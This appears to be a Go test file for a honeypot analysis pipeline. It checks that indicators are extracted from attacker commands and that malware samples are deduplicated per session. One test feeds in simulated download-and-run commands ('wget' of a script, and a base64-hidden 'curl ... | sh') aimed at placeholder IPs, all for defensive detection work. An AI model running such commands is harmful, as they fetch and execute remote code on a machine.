package pipeline_test

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/state"
)

// TestIndicatorsAreAddedBeforeTheLog: what stands in a command is an observable
// of its event, plain or encoded, and of what is claimed about it.
func TestIndicatorsAreAddedBeforeTheLog(t *testing.T) {
	w := newWorld(t)
	hidden := base64.StdEncoding.EncodeToString([]byte("curl http://203.0.113.88/x | sh\n"))
	s := &script{src: "203.0.113.7", service: "ssh", session: "a", at: noon}
	w.add(s.command("wget http://198.51.100.5/a.sh; echo " + hidden + " | base64 -d | sh").out...)
	w.add(honeyguide.Event{Time: noon, Activity: honeyguide.ActivityFinding, Sensor: "suricata", Attrs: map[string]any{honeyguide.AttrURL: "http://198.51.100.6/"}})
	recs, err := w.log.Read(t.Context(), 0, 10)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, o := range recs[0].Event.Observables {
		got = append(got, o.Type+" "+o.Value)
	}
	for _, want := range []string{"url http://198.51.100.5/a.sh", "ip 198.51.100.5", "url http://203.0.113.88/x", "ip 203.0.113.88"} {
		if !slices.Contains(got, want) {
			t.Errorf("%q is no observable: %v", want, got)
		}
	}
	if n := len(recs[1].Event.Observables); n != 0 {
		t.Errorf("another product's event got %d", n)
	}
	w.run()
	if a := w.found().alert("download_cradle"); !slices.ContainsFunc(a.Observed, func(o honeyguide.Observable) bool { return o.Value == "203.0.113.88" }) {
		t.Errorf("observed: %v", a.Observed)
	}
}

// TestSamplesComeFromTheLog: two sightings and a run are one sample of its
// session, also when the log is read again.
func TestSamplesComeFromTheLog(t *testing.T) {
	w := newWorld(t)
	sum := strings.Repeat("ab", 32)
	event := func(n int, activity, session, path string) honeyguide.Event {
		e := honeyguide.Event{Time: noon.Add(time.Duration(n) * time.Second), Activity: activity, Sensor: "ssh", Service: "ssh", Session: session, Class: honeyguide.ClassFile}
		e.Set(honeyguide.AttrSHA256, sum)
		e.Set(honeyguide.AttrPath, path)
		if activity == honeyguide.ActivitySample {
			e.Set(honeyguide.AttrFileType, "elf 64-bit x86-64 executable")
			e.Set(honeyguide.AttrSize, 77)
			e.Set(honeyguide.AttrKept, "yes")
		}
		return e
	}
	w.add(event(1, honeyguide.ActivitySample, "a", "/tmp/x"), event(2, honeyguide.ActivityExecute, "a", "/tmp/x"), event(3, honeyguide.ActivitySample, "b", "/tmp/y"))
	w.run()
	w.run()
	err := w.state.View(t.Context(), func(tx state.Tx) error {
		s, err := tx.Samples().Get(t.Context(), sum)
		if err != nil {
			return err
		}
		if s.Count != 2 || s.Executed != 1 || s.Size != 77 || !slices.Equal(s.Sessions, []string{"a", "b"}) || !slices.Equal(s.Paths, []string{"/tmp/x", "/tmp/y"}) {
			t.Errorf("sample %+v", s)
		}
		session, err := tx.Sessions().Get(t.Context(), "a")
		if !slices.Equal(session.Samples, []string{sum}) {
			t.Errorf("the session's samples: %v", session.Samples)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
